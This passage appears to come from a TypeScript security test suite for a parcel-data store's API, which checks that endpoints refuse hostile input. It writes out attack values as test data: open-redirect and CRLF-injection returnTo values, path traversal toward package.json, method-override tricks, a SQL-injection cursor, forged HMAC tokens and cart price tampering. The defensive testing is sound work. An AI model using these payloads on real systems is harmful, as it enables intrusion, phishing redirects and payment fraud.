      case 'GET /api/parcels/{parcelKey}':
        // The store's map asks as the data API does, with the session.
        return {
          role: 'customer',
          params: { parcelKey: { value: '24510A1', kind: 'token' } },
          queryProbe: {
            req: probe({ method: 'GET', target: '/api/parcels/24510A1', headers: customerHeaders() }),
            expect: [400],
            fields: ['fields'],
          },
        };
      case 'GET /api/v1/owners':
      case 'GET /api/owners': {
        // A name (any text of 3 to 200 characters is one) and a limit in range; the next of the buyer's tokens each time.
        const role: Role = key.includes('/v1/') ? 'token' : 'customer';
        return {
          role,
          queryProbe: {
            req: () => ({
              method: 'GET',
              target: `${path}?name=Smith`,
              headers: { 'X-Forwarded-For': nextAddress(), ...roleHeaders(role) },
            }),
            expect: [400],
            fields: ['limit'],
          },
        };
      }
      case 'GET /api/v1/owners/{ownerId}':
      case 'GET /api/owners/{ownerId}':
      case 'GET /api/v1/owners/{ownerId}/export':
      case 'GET /api/owners/{ownerId}/export': {
        // An owner of nothing: its page and its export are not found, and hostile ids are refused.
        const role: Role = key.includes('/v1/') ? 'token' : 'customer';
        const exported = key.endsWith('/export');
        return {
          role,
          params: { ownerId: { value: nothing, kind: 'uuid' } },
          queryProbe: {
            req: () => ({
              method: 'GET',
              target: `${path.replace('{ownerId}', nothing)}${exported ? '?format=csv' : ''}`,
              headers: { 'X-Forwarded-For': nextAddress(), ...roleHeaders(role) },
            }),
            expect: [400],
            fields: exported ? ['format'] : ['limit', 'cursor'],
          },
        };
      }
      case 'GET /api/admin/owners':
        return {
          role: 'admin',
          queryProbe: {
            req: probe({ method: 'GET', target: `${path}?name=Smith`, headers: adminHeaders() }),
            expect: [400],
            fields: ['limit'],
          },
        };
      case 'GET /api/admin/owners/{id}':
        return { ...get(path.replace('{id}', nothing), 'admin'), params: { id: { value: nothing, kind: 'uuid' } } };
      case 'POST /api/admin/owners/{id}/split':
      case 'POST /api/admin/owners/{id}/merge': {
        // An owner of nothing (404): no decision is kept, whatever the body.
        const split = key.endsWith('/split');
        const base = () => ({
          ...(split ? { mentions: [{ nameKey: 'SMITH JOHN', mailKey: '' }] } : { intoOwnerId: nothing }),
          reason: 'Two people of one name',
        });
        const mention = (m: unknown) =>
          typeof m === 'object' && m !== null && isText((m as MentionKey).nameKey) && isText((m as MentionKey).mailKey);
        return {
          role: 'admin',
          acts: true,
          params: { id: { value: nothing, kind: 'uuid' } },
          body: {
            base,
            refusal: [400, 404],
            rules: {
              ...(split
                ? {
                    mentions: {
                      valid: (v) => Array.isArray(v) && v.length >= 1 && v.length <= 500 && v.every(mention),
                    },
                  }
                : { intoOwnerId: { valid: (v) => isText(v) && UUID.test(v) } }),
              reason: { valid: (v) => isText(v) && v.trim().length >= 3 && v.trim().length <= 500 },
            },
          },
          queryProbe: {
            req: probe({
              method: 'POST',
              target: path.replace('{id}', nothing),
              headers: { ...json, ...adminHeaders() },
              body: JSON.stringify(base()),
            }),
            expect: 'ignored',
          },
        };
      }
      case 'GET /api/parcel-map':
        return get(path, 'customer');
      case 'GET /api/counties/{id}/parcel-preview':
        // A county on sale whose parcels are not loaded (404): a removed one answers alike, a hostile id is refused.
        return {
          role: 'anonymous',
          params: {
            id: { value: counties[1].id, kind: 'uuid', extra: [{ label: 'a removed county', value: removedCountyId }] },
          },
          queryProbe: {
            req: probe({ method: 'GET', target: path.replace('{id}', counties[1].id) }),
            expect: 'ignored',
          },
        };
      case 'GET /api/v1/tiles/{z}/{x}/{y}.mvt':
      case 'GET /api/tiles/{z}/{x}/{y}.mvt':
      case 'GET /api/admin/tiles/{z}/{x}/{y}.mvt':
      case 'GET /api/tiles/preview/{z}/{x}/{y}.mvt': {
        // A tile of Baltimore at zoom 16; it takes no query.
        const tile = { z: { value: '16', kind: 'tile' as const }, x: { value: '18337', kind: 'tile' as const } };
        const role: Role = key.includes('/v1/')
          ? 'token'
          : key.includes('/admin/')
            ? 'admin'
            : key.includes('/preview/')
              ? 'anonymous'
              : 'customer';
        return {
          ...get(path.replace('{z}/{x}/{y}', '16/18337/25077'), role),
          params: { ...tile, y: { value: '25077', kind: 'tile' } },
        };
      }
      case 'GET /api/v1/parcels':
      case 'GET /api/parcels': {
        // One question a request, each value in range: anything else is refused, nothing is looked up.
        // Each request its own address and the next of the buyer's tokens: 150 of them would meet one token's rate limit.
        // The store's map (/api/parcels) asks the same with the buyer's session.
        const role: Role = key.includes('/v1/') ? 'token' : 'customer';
        const asked = (query: string): RawRequest => ({
          method: 'GET',
          target: `${path}?${query}`,
          headers: { 'X-Forwarded-For': nextAddress(), ...roleHeaders(role) },
        });
        return {
          role,
          queryProbe: {
            req: () => asked('address=1%20Main%20St'),
            expect: [400],
            fields: ['lat', 'radius', 'bbox', 'limit', 'cursor', 'fields'],
          },
          more: () =>
            [
              ['a box of the whole world', 'bbox=-180,-90,180,90'],
              ['a box inside out', 'bbox=-75,40,-76,39'],
              ['a box of NaN', 'bbox=NaN,NaN,NaN,NaN'],
              ['a box of three numbers', 'bbox=-75,39,-74'],
              ['a radius of a thousand kilometres', 'lat=39&lon=-75&radius=1000000'],
              ['a radius of nothing', 'lat=39&lon=-75&radius=0'],
              ['a latitude past the pole', 'lat=91&lon=-75'],
              ['an infinite longitude', 'lat=39&lon=Infinity'],
              ['a page of 100,000', 'bbox=-75.6,39,-75.5,39.1&limit=100000'],
              ['a cursor this API never gave', 'bbox=-75.6,39,-75.5,39.1&cursor=JyBPUiAxPTEgLS0'],
              [
                'a thousand fields',
                `address=1%20Main&fields=${Array.from({ length: 1000 }, (_, i) => `f${i}`).join(',')}`,
              ],
              ['a parcel without its county', 'parcel=1-01'],
            ].map(([name, query]) => ({
              endpoint: key,
              family: 'query' as const,
              name,
              req: asked(query),
              expect: { kind: 'refused' as const, statuses: [400] },
            })),
        };
      }
      case 'POST /api/v1/batches':
      case 'POST /api/parcel-batches': {
        // The body is the CSV; what is refused is listed in batchCases. The probe's body is no batch, so none is made.
        const role: Role = key.includes('/v1/') ? 'token' : 'customer';
        return {
          role,
          acts: true,
          queryProbe: {
            req: () => ({
              method: 'POST',
              target: path,
              headers: { 'X-Forwarded-For': nextAddress(), 'Content-Type': 'text/csv', ...roleHeaders(role) },
              body: 'not,a,batch\n1,2,3\n',
            }),
            expect: [400],
            fields: ['fields'],
          },
          more: () => batchCases(key, role),
        };
      }
      case 'GET /api/v1/batches':
        return get(path, 'token');
      case 'GET /api/parcel-batches':
        return get(path, 'customer');
      case 'GET /api/v1/batches/{id}':
      case 'GET /api/v1/batches/{id}/result':
      case 'GET /api/parcel-batches/{id}':
      case 'GET /api/parcel-batches/{id}/result': {
        // The buyer's batch, still queued: its result is a 409; another customer's is a 404.
        const role: Role = key.includes('/v1/') ? 'token' : 'customer';
        return {
          role,
          params: {
            id: {
              value: buyerBatchId,
              kind: 'uuid',
              extra: [{ label: 'another customer’s batch', value: otherBatchId }],
            },
          },
          queryProbe: {
            req: probe({ method: 'GET', target: path.replace('{id}', buyerBatchId), headers: roleHeaders(role) }),
            expect: 'ignored',
          },
        };
      }
      case 'POST /api/tokens':
        return {
          role: 'customer',
          body: {
            base: (n) => ({ name: `Hostile name ${n}` }),
            refusal: [400],
            textField: 'name',
            rules: {
              name: {
                valid: (v) => isCleanText(v, 100) && !/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(v as string),
              },
            },
          },
          // A name that is refused, so that no probe makes a token.
          queryProbe: {
            req: probe({
              method: 'POST',
              target: path,
              headers: { ...json, ...customerHeaders() },
              body: '{"name":""}',
            }),
            expect: 'ignored',
          },
        };
      case 'DELETE /api/tokens/{id}':
        return {
          role: 'customer',
          acts: true,
          params: {
            id: {
              value: apiTokenId,
              kind: 'uuid',
              extra: [{ label: 'another customer’s token', value: otherApiTokenId }],
            },
          },
          queryProbe: {
            req: probe({ method: 'DELETE', target: `/api/tokens/${nothing}`, headers: customerHeaders() }),
            expect: 'ignored',
          },
        };
      case 'POST /api/v1/subscriptions/{id}/download-link': {
        const month = /^\d{4}-(0[1-9]|1[0-2])$/;
        return {
          role: 'token',
          params: { id: customerSubscription },
          body: {
            base: () => ({}),
            refusal: [400],
            allOptional: true,
            textField: 'release',
            // Optional: null is as good as absent.
            rules: {
              release: { valid: (v) => v === undefined || v === null || (isText(v) && month.test(v)) },
              kind: { valid: (v) => v === undefined || v === null || v === 'full' || v === 'changes' },
              format: { valid: (v) => v === undefined || v === null || (FORMAT_IDS as unknown[]).includes(v) },
            },
          },
          queryProbe: {
            req: () => ({
              method: 'POST',
              target: `/api/v1/subscriptions/${nothing}/download-link`,
              headers: { 'X-Forwarded-For': nextAddress(), ...json, ...tokenHeaders() },
              body: '{}',
            }),
            expect: 'ignored',
          },
        };
      }
      case 'GET /api/counties/{id}/dataset-summary':
      case 'GET /api/counties/{id}/sample.csv':
      case 'GET /api/counties/{id}/releases':
        // A county whose current file exists already (the buyer's download made it): nothing is generated.
        return {
          role: 'anonymous',
          params: {
            id: { value: counties[1].id, kind: 'uuid', extra: [{ label: 'a removed county', value: removedCountyId }] },
          },
          queryProbe: {
            req: probe({ method: 'GET', target: path.replace('{id}', counties[1].id) }),
            expect: 'ignored',
          },
        };
      case 'GET /api/invoices/{id}/pdf':
        return {
          role: 'customer',
          params: {
            id: {
              value: invoiceId,
              kind: 'uuid',
              extra: [{ label: 'another customer’s invoice', value: otherInvoiceId }],
            },
          },
          queryProbe: {
            req: probe({ method: 'GET', target: `/api/invoices/${invoiceId}/pdf`, headers: customerHeaders() }),
            expect: 'ignored',
          },
        };
      case 'GET /api/orders/{token}/invoices/{invoiceId}/pdf':
        return {
          role: 'anonymous',
          params: {
            token: orderToken,
            invoiceId: {
              value: invoiceId,
              kind: 'uuid',
              extra: [{ label: 'an invoice of another order', value: otherInvoiceId }],
            },
          },
          queryProbe: {
            req: probe({ method: 'GET', target: `/api/orders/${order.token}/invoices/${invoiceId}/pdf` }),
            expect: 'ignored',
          },
        };
      case 'GET /api/admin/check-auth':
      case 'GET /api/admin/summary':
      case 'GET /api/admin/analytics':
      case 'GET /api/admin/releases':
      case 'GET /api/admin/coverage':
      case 'GET /api/admin/parcel-fields':
        return get(path, 'admin');
      case 'GET /api/admin/audit-log':
        // Every filter and the paging are declared and checked: hostile values and unknown names are refused.
        return {
          role: 'admin',
          queryProbe: {
            req: probe({ method: 'GET', target: `${path}?page=1&pageSize=20`, headers: adminHeaders() }),
            expect: [400],
            fields: ['page', 'pageSize', 'action', 'staff', 'from', 'to', 'targetType'],
          },
        };
      case 'GET /api/admin/subscriptions':
      case 'GET /api/admin/customers':
      case 'GET /api/admin/users': {
        // One page, asked for as the console asks; a search that finds nothing is answered with no rows.
        const page = (query: string): RawRequest => ({
          method: 'GET',
          target: `${path}?page=1&pageSize=20${query}`,
          headers: adminHeaders(),
        });
        return {
          role: 'admin',
          // Every parameter these lists take is declared and checked: hostile values and unknown names are refused.
          queryProbe: {
            req: probe({ method: 'GET', target: path, headers: adminHeaders() }),
            expect: [400],
            fields: ['page', 'pageSize', 'sort', 'order', 'status'],
          },
          // Hostile searches: text that cannot be a search is refused; any other text is only looked for,
          // so it finds nothing here, exactly as a search for a word no one has.
          more: () =>
            HOSTILE_STRINGS.map(({ label, value }): Case => {
              const text = value.trim();
              const encoded = percentEncode(value);
              const expect: Expectation =
                encoded.length > 10_000
                  ? { kind: 'refused', statuses: [414, 431], contract: false }
                  : /\p{Cc}/u.test(text) || text.length > 100
                    ? { kind: 'refused', statuses: [400] }
                    : { kind: 'ignored', baseline: page(text ? '&q=no-such-customer-or-county' : '') };
              return { endpoint: key, family: 'query', name: `q: ${label}`, req: page(`&q=${encoded}`), expect };
            }),
        };
      }
      case 'GET /api/login':
        return {
          role: 'anonymous',
          queryProbe: { req: probe({ method: 'GET', target: path }), expect: 'redirect', fields: ['returnTo'] },
          more: () =>
            [
              'https://evil.example/phish',
              '//evil.example',
              '/\\evil.example',
              '\\\\evil.example',
              'javascript:alert(1)',
              '/%0d%0aSet-Cookie:%20x=1',
              '///evil.example',
              'http:evil.example',
              // Paths that turn into another host once normalized or decoded.
              '/.//evil.example',
              '/..//evil.example',
              '/./\\evil.example',
              '/%2F%2Fevil.example',
              '/\t/evil.example',
              ...HOSTILE_STRINGS.map((s) => s.value).slice(0, 14),
            ].map((returnTo) => ({
              endpoint: key,
              family: 'query' as const,
              name: `returnTo=${returnTo.slice(0, 30)}`,
              req: { method: 'GET', target: `${path}?returnTo=${percentEncode(returnTo)}`, headers: {} },
              expect: { kind: 'redirect' as const },
            })),
        };
      case 'GET /api/admin/staff-login':
      case 'GET /api/admin/staff-login/callback':
      case 'GET /api/login/callback':
        return {
          role: 'anonymous',
          queryProbe: {
            req: probe({ method: 'GET', target: path }),
            expect: 'redirect',
            fields: key.endsWith('callback') ? ['code', 'state', 'error'] : ['status', 'error'],
          },
        };
      case 'GET /api/logout':
      case 'GET /api/logout/page.css':
        return get(path);
      case 'POST /api/logout':
        // Anonymous: a customer's session would end at the first case.
        return {
          role: 'anonymous',
          acts: true,
          queryProbe: { req: probe({ method: 'POST', target: path }), expect: 'ignored' },
        };
      case 'POST /api/create-payment-intent': {
        const item = () => ({ countyId: counties[1].id, purchaseType: 'one-time' });
        const available = new Set(counties.slice(0, 5).map((c) => c.id));
        return {
          role: 'anonymous',
          body: {
            base: (n) => ({ items: [item()], email: `hostile.checkout.${n}@example.com`, acceptedLicense: true }),
            refusal: [400],
            textField: 'email',
            rules: {
              email: { valid: isEmail },
              acceptedLicense: { valid: (v) => v === true },
              // Optional: null is as good as absent.
              companyName: {
                valid: (v) =>
                  v === undefined ||
                  v === null ||
                  (isText(v) && isCleanText(v, Infinity) && [...v.trim()].length <= 200 && !/\p{Cc}/u.test(v)),
              },
              taxId: {
                valid: (v) => v === undefined || v === null || (isText(v) && /^[A-Za-z0-9 ./-]{1,50}$/.test(v.trim())),
              },
              items: {
                valid: (v) =>
                  Array.isArray(v) &&
                  v.length > 0 &&
                  v.length <= 500 &&
                  v.every(
                    (i) =>
                      i !== null &&
                      typeof i === 'object' &&
                      available.has((i as { countyId?: string }).countyId ?? '') &&
                      ['one-time', 'annual'].includes((i as { purchaseType?: string }).purchaseType ?? ''),
                  ),
                element: {
                  base: item,
                  rules: {
                    countyId: { valid: (v) => isText(v) && available.has(v) },
                    purchaseType: { valid: (v) => v === 'one-time' || v === 'annual' },
                  },
                },
              },
            },
          },
          queryProbe: {
            // A new email each time: checkouts are limited per email as well as per address.
            req: () => ({
              method: 'POST',
              target: path,
              headers: { ...json, 'X-Forwarded-For': nextAddress() },
              body: JSON.stringify({
                items: [{ countyId: nothing, purchaseType: 'one-time' }],
                email: `hostile.query.${++addressCounter}@example.com`,
                acceptedLicense: true,
              }),
            }),
            expect: 'ignored',
          },
          more: () =>
            (
              [
                ['an empty cart', []],
                ['501 counties', Array.from({ length: 501 }, () => item())],
                ['a county twice', [item(), item()]],
                ['a removed county', [{ countyId: removedCountyId, purchaseType: 'one-time' }]],
                ...UUIDS_OF_NOTHING.map((u) => [u.label, [{ countyId: u.value, purchaseType: 'annual' }]]),
                ['a null item', [null]],
                ['a text item', ['county']],
                ['an item that is a list', [[counties[1].id, 'one-time']]],
                ['an item with a price', [{ ...item(), price: 1 }]],
                ['an item with an amount', [{ ...item(), amount: 0.01, priceCents: 1 }]],
                ['an item with a plan of 0 cents', [{ ...item(), plan: { priceCents: 0 } }]],
                ['an item of a made-up plan', [{ countyId: counties[1].id, purchaseType: 'free' }]],
                ['a plan in capitals', [{ countyId: counties[1].id, purchaseType: 'ONE-TIME' }]],
                ['a plan with a space', [{ countyId: counties[1].id, purchaseType: 'one-time ' }]],
                ['a county id in capitals and a price', [{ countyId: counties[1].id.toUpperCase(), price: 0 }]],
              ] as [string, unknown][]
            ).map(([name, items], n) => ({
              endpoint: key,
              family: 'body field' as const,
              name: `items: ${name}`,
              req: {
                method: 'POST',
                target: path,
                headers: { ...json, 'X-Forwarded-For': nextAddress() },
                body: JSON.stringify({ items, email: `hostile.cart.${n}@example.com`, acceptedLicense: true }),
              },
              expect: { kind: 'refused' as const, statuses: [400] },
            })),
        };
      }
      case 'POST /api/payment-success':
        return {
          role: 'anonymous',
          body: {
            base: () => ({ paymentIntentId: order.pi, email: order.email }),
            refusal: [400],
            textField: 'email',
            rules: {
              paymentIntentId: { valid: (v) => isText(v) && /^pi_[A-Za-z0-9_]+$/.test(v) && v.length <= 255 },
              email: { valid: isEmail },
            },
          },
          queryProbe: {
            req: probe({
              method: 'POST',
              target: path,
              headers: json,
              body: JSON.stringify({ paymentIntentId: 'pi_nothing', email: order.email }),
            }),
            expect: 'ignored',
          },
          more: () =>
            (
              [
                ['another buyer’s payment', { paymentIntentId: otherOrder.pi, email: order.email }, [404]],
                ['a payment with another buyer’s email', { paymentIntentId: order.pi, email: otherOrder.email }, [404]],
                ['an unpaid order’s payment', { paymentIntentId: pending.pi, email: pending.email }, [409]],
                ['a payment id of nothing', { paymentIntentId: 'pi_0000000000000000', email: order.email }, [404]],
                ['a client secret', { paymentIntentId: `${order.pi}_secret_abc`, email: order.email }, [404]],
              ] as [string, object, number[]][]
            ).map(([name, body, statuses]) => ({
              endpoint: key,
              family: 'body field' as const,
              name,
              req: { method: 'POST', target: path, headers: json, body: JSON.stringify(body) },
              expect: { kind: 'refused' as const, statuses },
            })),
        };
      case 'POST /api/stripe/webhook':
        return { role: 'anonymous', more: webhookCases };
      case 'PATCH /api/subscriptions/{id}':
        return {
          role: 'customer',
          params: { id: { value: trackerId, kind: 'uuid', extra: customerSubscription.extra } },
          body: {
            base: () => ({ autoRenew: trackerAutoRenew }),
            refusal: [400],
            rules: { autoRenew: { valid: (v) => typeof v === 'boolean' } },
          },
          queryProbe: {
            req: probe({
              method: 'PATCH',
              target: `/api/subscriptions/${nothing}`,
              headers: { ...json, ...customerHeaders() },
              body: JSON.stringify({ autoRenew: true }),
            }),
            expect: 'ignored',
          },
        };
      case 'POST /api/journey-events':
        return {
          role: 'anonymous',
          body: {
            base: () => ({ visitorId: '6f1c2a34-5b6d-4e7f-8a9b-0c1d2e3f4a5b', event: 'landing_view', metadata: {} }),
            // Its own parser takes at most 8 KB.
            refusal: [400, 413],
            textField: 'metadata',
            rules: {
              visitorId: { valid: (v) => isText(v) && UUID.test(v) },
              event: {
                valid: (v) => isText(v) && (JOURNEY_EVENTS as readonly string[]).includes(v),
              },
              // Optional: null is as good as absent.
              metadata: { valid: (v) => v === null || isSmallCleanObject(v), storedText: true },
            },
          },
          queryProbe: {
            req: probe({
              method: 'POST',
              target: path,
              headers: json,
              body: JSON.stringify({ event: 'landing_view' }),
            }),
            expect: 'ignored',
          },
        };
      case 'POST /api/admin/login':
        return {
          role: 'anonymous',
          body: {
            base: () => ({ password: TEST_ADMIN_PASSWORD }),
            refusal: [400, 401],
            textField: 'password',
            rules: { password: { valid: (v) => v === TEST_ADMIN_PASSWORD } },
          },
          queryProbe: {
            req: probe({ method: 'POST', target: path, headers: json, body: JSON.stringify({ password: 'wrong' }) }),
            expect: 'ignored',
          },
        };
      case 'POST /api/admin/logout':
        return {
          role: 'admin',
          acts: true,
          queryProbe: { req: probe({ method: 'POST', target: path }), expect: 'ignored' },
        };
      case 'POST /api/admin/subscriptions/{id}/cancel':
        return {
          role: 'admin',
          acts: true,
          params: { id: { value: trackerId, kind: 'uuid' } },
          queryProbe: {
            req: probe({
              method: 'POST',
              target: `/api/admin/subscriptions/${nothing}/cancel`,
              headers: adminHeaders(),
            }),
            expect: 'ignored',
          },
        };
      case 'POST /api/admin/customers/{id}/orders/{orderId}/refund':
      case 'POST /api/admin/customers/{id}/orders/{orderId}/resend-receipt': {
        // Ids of nothing: a well-formed request finds no order (404) and so never refunds or sends anything.
        const refund = path.endsWith('/refund');
        const base = () => ({
          ...(refund && { amountCents: 1 }),
          idempotencyKey: '5d1f2c3b-4a59-4e6f-8a7b-9c0d1e2f3a4b',
        });
        return {
          role: 'admin',
          acts: true,
          params: { id: { value: nothing, kind: 'uuid' }, orderId: { value: nothing, kind: 'uuid' } },
          body: {
            base,
            refusal: [400, 404],
            rules: {
              ...(refund && {
                amountCents: {
                  valid: (v) => Number.isInteger(v) && (v as number) >= 1 && (v as number) <= 100_000_000,
                },
              }),
              idempotencyKey: { valid: (v) => isText(v) && UUID.test(v) },
            },
          },
          queryProbe: {
            req: probe({
              method: 'POST',
              target: path.replace('{id}', nothing).replace('{orderId}', nothing),
              headers: { ...json, ...adminHeaders() },
              body: JSON.stringify(base()),
            }),
            expect: 'ignored',
          },
        };
      }
      case 'POST /api/admin/customers/{id}/subscriptions/{subscriptionId}/resend-tracker-email':
      case 'POST /api/admin/customers/{id}/subscriptions/{subscriptionId}/extend': {
        // Ids of nothing: a well-formed request finds no subscription (404) and so never sends or extends anything.
        const extend = path.endsWith('/extend');
        const base = () => ({
          ...(extend && { unit: 'months', count: 1 }),
          idempotencyKey: '5d1f2c3b-4a59-4e6f-8a7b-9c0d1e2f3a4c',
        });
        return {
          role: 'admin',
          acts: true,
          params: { id: { value: nothing, kind: 'uuid' }, subscriptionId: { value: nothing, kind: 'uuid' } },
          body: {
            base,
            refusal: [400, 404],
            rules: {
              ...(extend && {
                unit: { valid: (v) => v === 'days' || v === 'months' },
                count: { valid: (v) => Number.isInteger(v) && (v as number) >= 1 && (v as number) <= 12 },
              }),
              idempotencyKey: { valid: (v) => isText(v) && UUID.test(v) },
            },
          },
          queryProbe: {
            req: probe({
              method: 'POST',
              target: path.replace('{id}', nothing).replace('{subscriptionId}', nothing),
              headers: { ...json, ...adminHeaders() },
              body: JSON.stringify(base()),
            }),
            expect: 'ignored',
          },
        };
      }
      case 'POST /api/admin/customers/{id}/orders/{orderId}/page-link':
        return {
          role: 'admin',
          acts: true,
          params: { id: { value: nothing, kind: 'uuid' }, orderId: { value: nothing, kind: 'uuid' } },
          queryProbe: {
            req: probe({
              method: 'POST',
              target: path.replace('{id}', nothing).replace('{orderId}', nothing),
              headers: adminHeaders(),
            }),
            expect: 'ignored',
          },
        };
      case 'GET /api/admin/customers/{id}/invoices/{invoiceId}/pdf':
        return {
          role: 'admin',
          params: { id: { value: nothing, kind: 'uuid' }, invoiceId: { value: invoiceId, kind: 'uuid' } },
          queryProbe: {
            req: probe({
              method: 'GET',
              target: `/api/admin/customers/${nothing}/invoices/${invoiceId}/pdf`,
              headers: adminHeaders(),
            }),
            expect: 'ignored',
          },
        };
      case 'PUT /api/admin/counties/{id}':
        return {
          role: 'admin',
          params: {
            id: { value: county.id, kind: 'uuid', extra: [{ label: 'a removed county', value: removedCountyId }] },
          },
          body: {
            base: countyBody,
            refusal: [400],
            textField: 'name',
            rules: {
              name: { valid: (v) => isCleanText(v, 100), storedText: true },
              state: { valid: (v) => isCleanText(v, 100), storedText: true },
              stateCode: { valid: (v) => isText(v) && /^[a-z]{2}$/i.test(v.trim()) },
              population: {
                valid: (v) => v === null || (Number.isInteger(v) && (v as number) >= 0 && (v as number) < 2 ** 31),
              },
            },
          },
          queryProbe: {
            req: probe({
              method: 'PUT',
              target: `/api/admin/counties/${nothing}`,
              headers: { ...json, ...adminHeaders() },
              body: JSON.stringify(countyBody()),
            }),
            expect: 'ignored',
          },
        };
      case 'DELETE /api/admin/counties/{id}':
        return {
          role: 'admin',
          acts: true,
          params: {
            id: { value: counties[4].id, kind: 'uuid', extra: [{ label: 'a removed county', value: removedCountyId }] },
          },
          queryProbe: {
            req: probe({ method: 'DELETE', target: `/api/admin/counties/${nothing}`, headers: adminHeaders() }),
            expect: 'ignored',
          },
        };
      case 'POST /api/admin/counties/{id}/datasets':
        return {
          role: 'admin',
          params: { id: { value: county.id, kind: 'uuid' } },
          queryProbe: {
            req: probe({
              method: 'POST',
              target: `/api/admin/counties/${county.id}/datasets?release=2024-01`,
              headers: { ...adminHeaders(), 'Content-Type': 'application/gzip' },
              body: 'not gzip',
            }),
            expect: [400],
          },
          queryValues: {
            field: 'release',
            statuses: [400],
            values: [
              ...[
                '2024-13',
                '2024-00',
                '2024-1',
                '24-01',
                '2024-01-01',
                '9999-12',
                '0000-00',
                '2024/01',
                ' 2024-01',
                '-2024-01',
              ].map((v) => ({ label: v, value: percentEncode(v) })),
              ...HOSTILE_STRINGS.slice(0, 20).map((s) => ({ label: s.label, value: percentEncode(s.value) })),
            ],
          },
          more: uploadCases,
        };
      case 'GET /api/admin/releases/{id}/counties/{countyId}/preview':
        // A real draft and a real county; the county has no file in it, so a well-formed request is a 404.
        return {
          role: 'admin',
          params: {
            id: { value: draftReleaseId, kind: 'uuid' },
            countyId: { value: counties[1].id, kind: 'uuid' },
          },
          queryProbe: {
            req: probe({
              method: 'GET',
              target: `/api/admin/releases/${draftReleaseId}/counties/${counties[1].id}/preview`,
              headers: adminHeaders(),
            }),
            expect: 'ignored',
          },
        };
      case 'POST /api/admin/releases/{id}/files':
        // Source files go to a real draft, so what is refused is the body, not the release.
        return {
          role: 'admin',
          params: { id: { value: draftReleaseId, kind: 'uuid' } },
          queryProbe: {
            req: probe({
              method: 'POST',
              target: `/api/admin/releases/${draftReleaseId}/files`,
              headers: { ...adminHeaders(), 'Content-Type': 'text/csv' },
              body: 'not,a,schema,header\n1,2,3,4\n',
            }),
            expect: [400],
            fields: ['countyId'],
          },
        };
      case 'POST /api/subscriptions/{id}/download-link':
        return {
          role: 'customer',
          params: { id: customerSubscription },
          queryProbe: {
            req: probe({
              method: 'POST',
              target: `/api/subscriptions/${snapshotId}/download-link`,
              headers: customerHeaders(),
            }),
            expect: 'ignored',
          },
        };
      case 'GET /api/downloads/{token}': {
        const now = Date.now();
        const signed = (grant: { subscriptionId: string; datasetId: string }, at = now) =>
          downloadTokens.issue(grant, at).token;
        const real = downloadToken ?? signed({ subscriptionId: snapshotId, datasetId: UUIDS_OF_NOTHING[0].value });
        return {
          role: 'anonymous',
          params: {
            token: {
              value: real,
              kind: 'token',
              extra: [
                { label: 'a token with its signature cut short', value: real.slice(0, -3) },
                { label: 'a token with a part more', value: `${real}.x` },
                { label: 'a token of the payload alone', value: real.split('.')[0] },
                { label: 'a token in upper case', value: real.toUpperCase() },
                {
                  label: 'a token signed with another key',
                  value: `${real.split('.')[0]}.${createHmac('sha256', 'guess').update(real.split('.')[0]).digest('base64url')}`,
                },
                {
                  label: 'a token that expired an hour ago',
                  value: signed({ subscriptionId: snapshotId, datasetId: UUIDS_OF_NOTHING[0].value }, now - 3_600_000),
                },
                {
                  label: 'a signed token of a subscription of nothing',
                  value: signed({ subscriptionId: UUIDS_OF_NOTHING[0].value, datasetId: UUIDS_OF_NOTHING[1].value }),
                },
              ],
            },
          },
          queryProbe: { req: probe({ method: 'GET', target: `/api/downloads/${real}` }), expect: 'ignored' },
        };
      }
      case 'GET /api/orders/{token}':
        return {
          role: 'anonymous',
          params: { token: orderToken },
          queryProbe: { req: probe({ method: 'GET', target: `/api/orders/${order.token}` }), expect: 'ignored' },
        };
      case 'POST /api/orders/{token}/subscriptions/{id}/download-link':
      case 'GET /api/orders/{token}/subscriptions/{id}/download':
        return {
          role: 'anonymous',
          params: { token: orderToken, id: subscriptionOfOrder },
          queryProbe: {
            req: probe({ method, target: path.replace('{token}', order.token).replace('{id}', snapshotId) }),
            expect: 'ignored',
          },
        };
      case 'DELETE /api/admin/uploads/{uploadId}':
        // The tus library read the id from the whole URL, query string included, and decoded it.
        return {
          ...inferredProfile(path, op),
          more: () =>
            ['x/..%2Fvictim.txt', 'x/..%2F..%2Fpackage.json', 'x/%2E%2E%2Fsecret'].map((query): Case => ({
              endpoint: key,
              family: 'query',
              name: `a query string naming a file: ${query}`,
              req: probe({
                method: 'DELETE',
                target: `/api/admin/uploads/${'0'.repeat(32)}?${query}`,
                headers: { ...adminHeaders(), 'Tus-Resumable': '1.0.0' },
              })(),
              expect: { kind: 'refused', statuses: [404] },
            })),
        };
      case 'POST /api/admin/uploads':
        // The tus library took the method from X-HTTP-Method-Override: a POST could delete.
        return {
          ...inferredProfile(path, op),
          more: () =>
            ['DELETE', 'PATCH', 'HEAD'].map((override): Case => ({
              endpoint: key,
              family: 'header',
              name: `X-HTTP-Method-Override: ${override}`,
              req: probe({
                method: 'POST',
                target: '/api/admin/uploads?x/..%2Fvictim.txt',
                headers: { ...adminHeaders(), 'Tus-Resumable': '1.0.0', 'X-HTTP-Method-Override': override },
              })(),
              expect: { kind: 'refused', statuses: [400], message: /X-HTTP-Method-Override/ },
            })),
        };
      default:
        return inferredProfile(path, op);
    }
  }

  /** A route this file does not know yet: its role from its OpenAPI description (an API token's scheme, a staff bearer, "Not signed in"), its params as UUIDs of nothing. */
  function inferredProfile(path: string, op: OpenApiOperation): Profile {
    const role: Role = op.security?.some((s) => 'bearer' in s)
      ? 'admin'
      : op.security?.some((s) => 'apiToken' in s)
        ? 'token'
        : /not signed in/i.test(op.responses?.['401']?.description ?? '')
          ? 'customer'
          : 'anonymous';
    const params = Object.fromEntries(
      (op.parameters ?? [])
        .filter((p) => p.in === 'path')
        .map((p) => [p.name, { value: UUIDS_OF_NOTHING[0].value, kind: 'token' as const }]),
    );
    const body: BodyProfile = { base: () => ({}), refusal: [400, 401, 403, 404, 409, 413, 415, 422], rules: {} };
    return { role, params, acts: true, body: op.requestBody ? body : undefined };
  }

  // -------------------------------------------------------------------------------------------
  // Case generation

  function casesFor(
    method: string,
    path: string,
    op: OpenApiOperation,
    profile: Profile,
    doc: OpenApiDocument,
  ): Case[] {
    const endpoint = `${method} ${path}`;
    const out: Case[] = [];
    const withParams = (values: Record<string, string> = {}) =>
      path.replace(
        /\{(\w+)\}/g,
        (_, name: string) => values[name] ?? profile.params?.[name]?.value ?? UUIDS_OF_NOTHING[0].value,
      );
    const realTarget = withParams();
    const base = (n: number) => profile.body?.base(n) ?? {};
